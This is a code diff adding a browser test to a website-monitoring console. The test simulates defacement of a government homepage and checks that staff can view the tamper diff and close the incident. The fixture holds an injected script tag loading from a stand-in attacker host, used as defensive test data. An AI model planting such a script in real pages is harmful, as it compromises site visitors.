@@ -306,3 +306,41 @@ def test_the_monitoring_dashboard_and_a_drill_down(computed_health, console, axe
     expect(page.get_by_role("img", name=re.compile("首页更新"))).to_be_visible()
     axe(page)
     screenshot(page, "console-monitoring-site")
+
+
+def test_a_tamper_incident_is_read_and_closed(console, fixture_sites, django_db_blocker, axe, screenshot):
+    """网页防篡改: the incident's difference, readable (axe) in both colours, and closing it with a note."""
+    from monitoring import health, tamper
+    from monitoring.models import HealthSnapshot, SiteHealth, TamperIncident
+
+    county = fixture_sites["county"]
+    published = "<main>\n<h1>锦江区人民政府</h1>\n<p>通知公告</p>\n</main>"
+    injected = "<p>本网站已被黑客攻陷</p>\n<script src=//evil.example/x.js></script>"
+    served = published.replace("<p>通知公告</p>", injected)
+    with django_db_blocker.unblock():
+        had_health = SiteHealth.objects.filter(site=county.site).exists()
+        incident = tamper.open_incident(county.site, f"http://{county.host}/", expected=tamper.Copy(200, published),
+                                        served=tamper.Copy(200, served), restored=False)
+    page = console
+    try:
+        page.get_by_role("navigation", name="控制台导航").get_by_role("link", name="网页防篡改").click()
+        expect(page.get_by_role("heading", level=1)).to_have_text("网页防篡改")
+        expect(page.get_by_role("cell", name="仍不一致")).to_be_visible()
+        axe(page)
+        page.get_by_role("link", name=f"http://{county.host}/").click()
+        expect(page.locator(".diff .added").first).to_contain_text("本网站已被黑客攻陷")
+        expect(page.locator(".diff .removed").first).to_contain_text("通知公告")
+        axe(page)
+        screenshot(page, "console-tamper-incident")
+        page.get_by_label("处置说明").fill("前端服务器被植入代码：已下线重装，清除缓存后复核一致")
+        page.get_by_role("button", name="关闭事件").click()
+        expect(page.get_by_text("已处置：")).to_be_visible()
+        expect(page.get_by_role("cell", name=re.compile("已处置（browser-staff"))).to_be_visible()
+    finally:
+        with django_db_blocker.unblock():  # closing computed the site's health: leave it as it was
+            TamperIncident.objects.filter(pk=incident.pk).delete()
+            if had_health:
+                health.refresh(county.site)
+            else:
+                SiteHealth.objects.filter(site=county.site).delete()
+                HealthSnapshot.objects.filter(site=county.site).delete()
